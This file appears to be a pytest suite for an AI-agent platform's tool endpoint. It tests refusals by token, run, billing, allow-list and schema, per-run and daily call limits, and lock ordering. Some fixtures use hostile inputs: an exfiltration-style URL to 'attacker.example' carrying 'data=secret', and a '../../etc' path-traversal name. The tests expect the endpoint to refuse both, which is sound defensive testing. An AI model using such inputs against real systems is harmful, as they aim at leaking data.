"""The tool endpoint: one path, in order — token, agent running and paid, active run
within its deadline, tool allowed and available, arguments valid, one call reserved
on the run and the day, performed, recorded — and the built-in tools."""

from __future__ import annotations

import datetime as dt
import threading
import time

import pytest
from django.db import connection, connections, transaction
from django.test import Client
from django.utils import timezone

from agents.conversation_services import hand_out_run, post_message
from agents.conversations import Message, MessageRole, Note, Run, RunStatus, RunStep, StopReason
from agents.models import Agent, AgentStatus
from agents.tests.conftest import make_running
from agents.tokens import revoke_agent_tokens
from agents.tools import (
    Tool,
    ToolError,
    ToolResult,
    _registry,
    arguments_digest,
    function_name,
    register,
    tool_name_of,
)

pytestmark = pytest.mark.django_db


def call(client, live, name: str, arguments=None, *, body=None):
    return client.post(
        f"/agent-api/v1/tools/{name}",
        body if body is not None else {"arguments": arguments or {}},
        content_type="application/json",
        headers=live.auth,
    )


@pytest.fixture
def run(live) -> Run:
    post_message(agent=live.agent, content="go")
    return hand_out_run(agent=live.agent)


def error_code(response) -> str:
    return response.json()["error"]["code"]


def test_a_call_returns_untrusted_data_and_records_metadata_only(client, live, run):
    arguments = {"text": "buy milk"}
    response = call(client, live, "notes.save", arguments)

    assert response.status_code == 200
    body = response.json()
    assert body["untrusted"] is True
    assert set(body["result"]) == {"id", "saved_at"}
    run.refresh_from_db()
    assert (run.tool_calls, run.reserved_tool_calls) == (1, 0)
    step = RunStep.objects.get(run=run, kind="tool_call")
    assert step.name == "notes.save"
    assert step.detail["arguments_sha256"] == arguments_digest(arguments)
    assert step.detail["outcome"] == "ok"
    assert step.detail["result_bytes"] > 0
    assert "buy milk" not in repr(step.detail)
    agent = live.refresh()
    # Counted once, as performed: the calls the model asked for are the gateway's count.
    assert (agent.performed_tool_calls_today, agent.tool_calls_today) == (1, 0)


def test_time_now_is_in_the_owners_time_zone(client, live, run):
    Agent.objects.filter(pk=live.agent.pk).update(time_zone="Asia/Tokyo")
    result = call(client, live, "time.now").json()["result"]
    assert result["time_zone"] == "Asia/Tokyo"
    assert result["time"].endswith("+09:00")


def test_notes_round_trip_and_stay_with_their_agent(client, live, run, bob):
    from agents.services import create_agent

    for text in ("Dentist on Tuesday", "Call mum", "dentist bill paid"):
        assert call(client, live, "notes.save", {"text": text}).status_code == 200
    found = call(client, live, "notes.search", {"query": "DENTIST"}).json()["result"]["notes"]
    assert [n["text"] for n in found] == ["dentist bill paid", "Dentist on Tuesday"]
    listed = call(client, live, "notes.list", {"limit": 2}).json()["result"]["notes"]
    assert [n["text"] for n in listed] == ["dentist bill paid", "Call mum"]

    other = create_agent(owner=bob, name="bobs", provider_key="sk-x")
    Agent.objects.filter(pk=other.pk).update(billing_active=True)
    other_live = make_running(other)
    post_message(agent=other_live.agent, content="go")
    hand_out_run(agent=other_live.agent)
    assert call(client, other_live, "notes.list").json()["result"]["notes"] == []


def test_the_notebook_is_bounded(client, live, run, settings):
    Note.objects.bulk_create(Note(agent=live.agent, text="x") for _ in range(Note.MAX_PER_AGENT))
    response = call(client, live, "notes.save", {"text": "one more"})
    assert response.status_code == 502
    assert "full" in response.json()["error"]["message"]
    assert RunStep.objects.get(run=run, kind="tool_call").detail["outcome"] == "error"


# --- Refusals, in order ------------------------------------------------------------------


def test_an_unknown_or_revoked_token_is_401(client, live, run):
    revoke_agent_tokens(agent=live.agent)
    assert call(client, live, "time.now").status_code == 401
    assert not RunStep.objects.filter(run=run).exists()


@pytest.mark.parametrize(
    ("change", "status", "code"),
    [
        ({"status": AgentStatus.STOPPED}, 409, "agent_not_running"),
        ({"status": AgentStatus.KILLED}, 409, "agent_not_running"),
        ({"billing_active": False}, 402, "billing_inactive"),
    ],
)
def test_an_agent_that_is_not_running_or_not_paid_is_refused(
    client, live, run, change, status, code
):
    Agent.objects.filter(pk=live.agent.pk).update(**change)
    response = call(client, live, "time.now")
    assert (response.status_code, error_code(response)) == (status, code)
    assert Run.objects.get(pk=run.pk).tool_calls == 0


def test_no_tool_call_outside_a_run(client, live):
    response = call(client, live, "time.now")
    assert (response.status_code, error_code(response)) == (409, "no_active_run")


def test_a_call_past_the_deadline_stops_the_run(client, live, run):
    Run.objects.filter(pk=run.pk).update(deadline=timezone.now() - dt.timedelta(seconds=1))
    response = call(client, live, "time.now")
    assert (response.status_code, error_code(response)) == (409, "run_over")
    run.refresh_from_db()
    assert (run.status, run.stop_reason) == (RunStatus.STOPPED, StopReason.MAX_RUNTIME)


@pytest.mark.parametrize(
    ("name", "status", "code"),
    [
        ("gmail.send", 403, "tool_not_allowed"),  # not on the allow-list (nor registered)
        ("notes.delete_all", 403, "tool_not_allowed"),
        ("http.fetch", 403, "tool_not_allowed"),
    ],
)
def test_a_tool_not_on_the_allow_list_is_refused_and_recorded(
    client, live, run, name, status, code
):
    response = call(client, live, name, {"url": "https://attacker.example/?data=secret"})
    assert (response.status_code, error_code(response)) == (status, code)
    step = RunStep.objects.get(run=run)
    assert (step.kind, step.name, step.detail["code"]) == ("refused", name, code)
    assert "attacker" not in repr(step.detail)
    assert Run.objects.get(pk=run.pk).tool_calls == 0


def test_an_allowed_but_unregistered_tool_is_404(client, agent):
    live = make_running(agent, allowed_tools=["weather.forecast"])
    post_message(agent=live.agent, content="go")
    hand_out_run(agent=live.agent)
    response = call(client, live, "weather.forecast")
    assert (response.status_code, error_code(response)) == (404, "unknown_tool")


def test_an_unavailable_tool_is_refused_with_its_reason(client, agent):
    tool = Tool(
        name="test.unavailable",
        description="never available",
        parameters={"type": "object", "additionalProperties": False},
        perform=lambda call: ToolResult(data="should not run"),
        unavailable_reason=lambda agent: "Gmail is not connected",
    )
    register(tool)
    try:
        live = make_running(agent, allowed_tools=["test.unavailable"])
        post_message(agent=live.agent, content="go")
        hand_out_run(agent=live.agent)
        response = call(client, live, "test.unavailable")
        assert (response.status_code, error_code(response)) == (409, "tool_unavailable")
        assert "Gmail is not connected" in response.json()["error"]["message"]
        assert client.get("/agent-api/v1/tools", headers=live.auth).json()["tools"] == []
    finally:
        _registry.pop("test.unavailable")


@pytest.mark.parametrize(
    "arguments",
    [
        {"text": ""},  # too short
        {"text": "x" * 2001},  # too long
        {"text": 42},  # wrong type
        {},  # missing
        {"text": "ok", "url": "https://attacker.example"},  # additionalProperties: false
        ["not", "an", "object"],
    ],
    ids=["short", "long", "type", "missing", "extra", "array"],
)
def test_arguments_are_checked_against_the_schema(client, live, run, arguments):
    response = call(client, live, "notes.save", arguments)
    assert (response.status_code, error_code(response)) == (400, "invalid_arguments")
    assert not Note.objects.exists()
    assert RunStep.objects.get(run=run).detail["code"] == "invalid_arguments"


@pytest.mark.parametrize("body", [{"arguments": {}, "extra": 1}, [], "x"])
def test_a_malformed_body_is_400(client, live, run, body):
    response = call(client, live, "time.now", body=body)
    assert response.status_code == 400


@pytest.mark.parametrize("name", ["../../etc", "a" * 300, "Time.Now", "time..now"])
def test_malformed_tool_names_are_404(client, live, run, name):
    assert call(client, live, name).status_code == 404


def test_max_tool_calls_per_run_stops_the_run_and_tells_the_owner(client, agent):
    live = make_running(agent, max_tool_calls_per_run=2)
    post_message(agent=live.agent, content="loop")
    run = hand_out_run(agent=live.agent)
    assert call(client, live, "time.now").status_code == 200
    assert call(client, live, "time.now").status_code == 200

    third = call(client, live, "time.now")

    assert (third.status_code, error_code(third)) == (429, "max_tool_calls_per_run")
    run.refresh_from_db()
    assert (run.status, run.stop_reason, run.tool_calls) == (
        RunStatus.STOPPED,
        StopReason.MAX_TOOL_CALLS,
        2,
    )
    notice = Message.objects.get(in_reply_to=run)
    assert notice.role == MessageRole.SYSTEM
    assert "limit of 2 tool calls" in notice.content
    kinds = list(RunStep.objects.filter(run=run).values_list("kind", flat=True))
    assert kinds == ["tool_call", "tool_call", "refused"]
    # The run is over: the next call has no run to count against.
    assert error_code(call(client, live, "time.now")) == "no_active_run"


def test_max_tool_calls_per_day_counts_across_runs(client, agent):
    live = make_running(agent, max_tool_calls_per_day=1)
    post_message(agent=live.agent, content="a")
    hand_out_run(agent=live.agent)
    assert call(client, live, "time.now").status_code == 200
    response = call(client, live, "time.now")
    assert (response.status_code, error_code(response)) == (429, "max_tool_calls_per_day")
    assert Run.objects.get().stop_reason == StopReason.MAX_TOOL_CALLS_PER_DAY


def test_yesterdays_count_does_not_hold_today(client, agent):
    yesterday = timezone.now().date() - dt.timedelta(days=1)
    live = make_running(
        agent,
        max_tool_calls_per_day=1,
        performed_tool_calls_today=1,
        performed_tool_calls_day=yesterday,
    )
    post_message(agent=live.agent, content="a")
    hand_out_run(agent=live.agent)
    assert call(client, live, "time.now").status_code == 200
    agent = live.refresh()
    today = timezone.now().date()
    assert (agent.performed_tool_calls_today, agent.performed_tool_calls_day) == (1, today)


@pytest.mark.django_db(transaction=True)
def test_concurrent_calls_cannot_pass_the_per_run_limit(agent):
    live = make_running(agent, max_tool_calls_per_run=3)
    post_message(agent=live.agent, content="burst")
    run = hand_out_run(agent=live.agent)
    barrier = threading.Barrier(8)
    statuses: list[int] = []

    def one() -> None:
        barrier.wait()
        statuses.append(call(Client(), live, "time.now").status_code)
        connection.close()

    threads = [threading.Thread(target=one) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    run.refresh_from_db()
    assert statuses.count(200) == 3
    assert run.tool_calls == 3
    assert run.reserved_tool_calls == 0
    assert live.refresh().performed_tool_calls_today == 3


@pytest.mark.django_db(transaction=True)
def test_a_tool_call_locks_the_agent_before_the_run_as_the_gateway_does(agent):
    """The runtime calls a tool as soon as a model answer arrives, while the gateway
    may still be settling that call: holding the agent's row, then taking the run's.
    A tool call that took the run's row first deadlocked with it. Here the run's row
    is held (``holder``) until both the tool call and the gateway wait, then let go."""
    if connection.vendor != "postgresql":
        pytest.fail("this test needs PostgreSQL (DATABASE_URL)")
    live = make_running(agent)
    post_message(agent=live.agent, content="go")
    run = hand_out_run(agent=live.agent)
    release, done = threading.Event(), []
    statuses: list[int] = []

    def in_thread(work):
        def target() -> None:
            try:
                work()
            finally:
                connection.close()

        thread = threading.Thread(target=target)
        thread.start()
        return thread

    def holder() -> None:
        with transaction.atomic():
            Run.objects.select_for_update().get(pk=run.pk)
            release.wait(60)

    def gateway_settlement() -> None:  # the gateway's lock order
        with transaction.atomic():
            Agent.objects.select_for_update().get(pk=live.agent.pk)
            Run.objects.select_for_update().get(pk=run.pk)
        done.append("gateway")

    threads = [in_thread(holder)]
    wait_for_blocked_backends(0)
    threads.append(in_thread(lambda: statuses.append(call(Client(), live, "time.now").status_code)))
    wait_for_blocked_backends(1)  # the tool call waits for the run's row
    threads.append(in_thread(gateway_settlement))
    wait_for_blocked_backends(2)  # and the gateway for one of the rows
    release.set()
    for thread in threads:
        thread.join(60)

    assert done == ["gateway"]  # neither was chosen as a deadlock's victim
    assert statuses == [200]
    assert Run.objects.get(pk=run.pk).tool_calls == 1


def wait_for_blocked_backends(count: int) -> None:
    """Until ``count`` connections to this database wait for a lock."""
    with connections["default"].cursor() as cursor:
        for _ in range(600):
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity "
                "WHERE datname = current_database() AND wait_event_type = 'Lock'"
            )
            if cursor.fetchone()[0] == count:
                return
            time.sleep(0.05)
    raise AssertionError(f"never {count} connections waiting for a lock")


def test_a_tool_that_raises_is_an_error_result_not_a_500(client, agent):
    def boom(call):
        raise RuntimeError("internal detail that must not leak")

    register(Tool(name="test.boom", description="", parameters={"type": "object"}, perform=boom))
    try:
        live = make_running(agent, allowed_tools=["test.boom"])
        post_message(agent=live.agent, content="go")
        run = hand_out_run(agent=live.agent)
        response = call(client, live, "test.boom")
        assert response.status_code == 502
        assert "internal detail" not in response.content.decode()
        assert Run.objects.get(pk=run.pk).tool_calls == 1
    finally:
        _registry.pop("test.boom")


def test_a_tool_error_says_whether_to_retry(client, agent):
    def busy(call):
        raise ToolError("Try again shortly.", permanent=False)

    register(Tool(name="test.busy", description="", parameters={"type": "object"}, perform=busy))
    try:
        live = make_running(agent, allowed_tools=["test.busy"])
        post_message(agent=live.agent, content="go")
        hand_out_run(agent=live.agent)
        error = call(client, live, "test.busy").json()["error"]
        assert error == {"code": "tool_failed", "message": "Try again shortly.", "retryable": True}
    finally:
        _registry.pop("test.busy")


def test_function_names_map_dots_both_ways():
    assert function_name("notes.save") == "notes__save"
    assert tool_name_of("notes__save") == "notes.save"
    assert tool_name_of(function_name("calendar.list_events")) == "calendar.list_events"
